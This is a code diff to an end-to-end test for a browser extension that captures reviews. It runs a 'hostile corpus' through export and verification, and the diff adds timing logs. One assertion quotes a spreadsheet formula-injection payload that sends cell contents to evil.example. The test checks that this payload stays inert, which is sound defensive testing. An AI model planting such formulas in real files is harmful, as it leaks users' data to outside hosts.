@@ -194,7 +194,9 @@ describe('the hostile corpus (32 reviews) through capture, case manager, export,
     const zipPath = await exportFromManager(h, caseId);
     const exportMs = Date.now() - tExport;
     const zipBytes = new Uint8Array(readFileSync(zipPath));
+    const tVerify = Date.now();
     const result = await verifyBundle(zipBytes);
+    const verifyMs = Date.now() - tVerify;
     expect(result.firstFailure).toBeUndefined();
     expect(result.ok).toBe(true);
     const dir = mkdtempSync(join(tmpdir(), 'avise-hostile-bundle-'));
@@ -206,7 +208,10 @@ describe('the hostile corpus (32 reviews) through capture, case manager, export,
     }
     const inBundle = (suffix: string) => join(dir, Object.keys(zip.files).find((n) => n.endsWith(suffix))!);
     const opened2: Page[] = [];
+    const tPages = Date.now();
+    const pageMs: string[] = [];
     for (const file of ['/data/rapport-de-capture.html', '/data/capture-report.html', '/verify.html']) {
+      const tPage = Date.now();
       const p = await h.browser.newPage();
       opened2.push(p);
       watch(p, w);
@@ -224,6 +229,7 @@ describe('the hostile corpus (32 reviews) through capture, case manager, export,
         expect(await p.$eval('#summary', (e) => e.textContent)).toMatch(/^✓/);
         expect(badLinks(await links(p), h.extensionId), 'verify.html after the verification').toEqual([]);
       }
+      pageMs.push(`${file} ${Date.now() - tPage} ms`);
     }
 
     // The PDF report: its text extracts, with each review's words and the note on the characters it replaced by « ¤ ».
@@ -232,7 +238,7 @@ describe('the hostile corpus (32 reviews) through capture, case manager, export,
     expect(pdfText).toContain('=HYPERLINK("https://evil.example/?leak="&A1,"Voir le dossier")');
     expect(pdfText).toContain('¤');
 
-    console.log(`hostile corpus: ${CORPUS.length} reviews captured in ${seriesMs} ms, exported in ${exportMs} ms (${zipBytes.length} bytes)`);
+    console.log(`hostile corpus: ${CORPUS.length} reviews captured in ${seriesMs} ms, exported in ${exportMs} ms (${zipBytes.length} bytes), verified in Node in ${verifyMs} ms; pages opened from the bundle in ${Date.now() - tPages} ms (${pageMs.join(', ')})`);
     await new Promise((r) => setTimeout(r, 300)); // let any late handler run
     for (const p of [page, series, manager, ...opened2]) {
       expect(await pwned(p), p.url()).toEqual([]);
